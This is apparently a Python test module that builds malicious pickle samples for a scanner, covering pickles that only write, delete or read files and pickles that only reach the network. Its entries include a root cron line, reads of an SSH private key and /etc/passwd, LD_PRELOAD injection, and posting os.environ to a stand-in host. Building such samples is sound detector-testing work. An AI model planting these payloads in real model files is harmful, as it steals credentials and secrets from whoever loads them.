"""Pickles without any command or code: they only write or destroy files, or only talk to the network."""

from collections.abc import Iterator

from .assemble import Call, Ref, method, planted, written
from .sample import HOST, MARKER, URL, Sample

__all__ = ["samples"]

WEIGHTS = {"coef_": [0.3, -1.2], "intercept_": 0.5}
CRON = "* * * * * root true\n"


def _files() -> Iterator[tuple[str, object]]:
    yield "open and write", method(Call("builtins.open", MARKER, "w"), "write", CRON)
    yield "_io.open alone, which truncates", Call("_io.open", MARKER, "w")
    yield "_io.FileIO", planted(Call("_io.FileIO", MARKER, "wb"), WEIGHTS)
    yield "pathlib's write_text", method(Call("pathlib.Path", MARKER), "write_text", CRON)
    yield "pathlib's unbound touch", Call(Ref("pathlib", "Path.touch"), Call("pathlib.PosixPath", MARKER))
    yield "codecs.open", method(Call("codecs.open", MARKER, "w"), "write", CRON)
    yield "distutils.file_util.write_file", Call("distutils.file_util.write_file", MARKER, [CRON])
    yield "os.symlink", Call("os.symlink", "/etc/hostname", MARKER)
    yield "posix.mkdir", Call("posix.mkdir", MARKER)
    yield "os.mknod", planted(Call("os.mknod", MARKER), WEIGHTS)
    yield "shutil.rmtree", Call("shutil.rmtree", "/tmp/vallum-no-such-folder", True)
    yield "shutil.copyfile", Call("shutil.copyfile", "/etc/hostname", MARKER)
    yield "shutil.move", Call("shutil.move", "/tmp/vallum-no-such-file", MARKER)
    yield "os.remove", Call("os.remove", "/tmp/vallum-no-such-file")
    yield "os.chmod", Call("os.chmod", "/tmp/vallum-no-such-file", 0o6777)
    yield "os.rename", Call("os.rename", "/tmp/vallum-no-such-file", "/tmp/vallum-none")
    yield "logging.FileHandler", Call("logging.FileHandler", MARKER)
    yield "sqlite3.connect and execute", method(Call("sqlite3.connect", MARKER), "execute", "create table t (a)")
    yield "dbm.dumb.open", Call("dbm.dumb.open", MARKER, "n")
    yield "zipfile.ZipFile for writing", Call("zipfile.ZipFile", MARKER, "w")
    yield "tarfile's extractall", method(Call("tarfile.open", "weights.tar"), "extractall", "/")
    yield "numpy's tofile", method(Call("numpy.zeros", 3), "tofile", MARKER)
    yield "numpy.save", Call("numpy.save", MARKER, [1, 2])
    yield "numpy.savetxt", Call("numpy.savetxt", MARKER, [1.0])
    yield "numpy.memmap", Call("numpy.memmap", MARKER, "uint8", "w+", 0, (4,))
    yield "joblib.dump", Call("joblib.dump", [1], MARKER)
    yield "pandas' to_csv", method(Call("pandas.Series", [1.0]), "to_csv", MARKER)
    yield "h5py.File", Call("h5py.File", MARKER, "w")
    yield "torch.save", Call("torch.save", [1], MARKER)
    yield "fileinput in place", method(Call("fileinput.FileInput", MARKER, True), "readline")
    yield "read of a private key", method(Call("builtins.open", "/root/.ssh/id_rsa"), "read")
    yield "linecache of the password file", Call("linecache.getlines", "/etc/passwd")
    yield "os.environ taken into the model", {"w": [1.0], "meta": Call("builtins.dict", Ref("os.environ"))}
    yield "os.putenv of LD_PRELOAD", Call("os.putenv", "LD_PRELOAD", "/tmp/vallum-none.so")
    yield "os.kill", Call("os.kill", 999999999, 15)
    yield "faulthandler's abort", Call("faulthandler._sigabrt")
    yield "sys.exit", Call("sys.exit", 0)


def _network() -> Iterator[tuple[str, object]]:
    yield "urllib.request.urlopen", method(Call("urllib.request.urlopen", URL), "read")
    yield "urllib.request.urlretrieve", Call("urllib.request.urlretrieve", URL, MARKER)
    yield "socket.create_connection", Call("socket.create_connection", (HOST, 4444), 1)
    yield "socket.gethostbyname leaks a name", Call("socket.gethostbyname", "host-7f3a.leak.example.invalid")
    yield "socket.getaddrinfo", planted(Call("socket.getaddrinfo", "v1.leak.example.invalid", 80), WEIGHTS)
    yield "_socket.socket, connected", method(Call("_socket.socket"), "connect_ex", (HOST, 443))
    yield "http.client by request", method(Call("http.client.HTTPConnection", HOST, 80, 1), "request", "GET", "/x")
    yield "smtplib.SMTP", Call("smtplib.SMTP", HOST, 25, None, 1)
    yield "ftplib.FTP", Call("ftplib.FTP", HOST)
    yield "telnetlib.Telnet", Call("telnetlib.Telnet", HOST, 23, 1)
    yield "ssl.get_server_certificate", Call("ssl.get_server_certificate", (HOST, 443))
    yield "xmlrpc.client.ServerProxy", method(Call("xmlrpc.client.ServerProxy", URL), "report")
    yield "requests.get", Call("requests.get", URL)
    yield (
        "requests.api.post of the environment",
        Call("requests.api.post", URL, Call("builtins.dict", Ref("os.environ"))),
    )
    yield "httpx.get", Call("httpx.get", URL)
    yield "webbrowser.open", Call("webbrowser.open", URL)
    yield "logging.handlers.HTTPHandler", Call("logging.handlers.HTTPHandler", HOST, "/x")
    yield "multiprocessing.connection.Client", Call("multiprocessing.connection.Client", (HOST, 6000))
    yield "pandas.read_csv of an address", Call("pandas.read_csv", URL)
    yield "numpy.DataSource", method(Call("numpy.DataSource", "."), "open", URL)
    yield "sklearn.datasets.fetch_openml", Call("sklearn.datasets.fetch_openml", "evil-data")
    yield "torch.hub.load_state_dict_from_url", Call("torch.hub.load_state_dict_from_url", URL)
    yield "torch.hub.download_url_to_file", Call("torch.hub.download_url_to_file", URL, MARKER)
    yield "huggingface_hub.snapshot_download", Call("huggingface_hub.snapshot_download", "someone/evil")
    yield (
        "transformers' from_pretrained",
        Call(Ref("transformers", "AutoModel.from_pretrained"), "someone/evil-with-code"),
    )
    yield "tensorflow's get_file", Call("tensorflow.keras.utils.get_file", "a", URL)
    yield "fsspec.open", method(Call("fsspec.open", URL), "open")
    yield "boto3.client", Call("boto3.client", "s3")


PROVEN = {
    "open and",
    "_io.op",
    "_io.Fi",
    "pathli",
    "codecs",
    "distut",
    "os.sym",
    "posix.",
    "os.mkn",
    "loggin",
    "sqlite",
}


def samples() -> Iterator[Sample]:
    for name, value in _files():
        proof = "pickle" if name[:6] in PROVEN else ""
        yield Sample("pickle: files only", name, {"model.pkl": written(value)}, proof=proof)
    for name, value in _network():
        yield Sample("pickle: network only", name, {"model.pkl": written(value)})
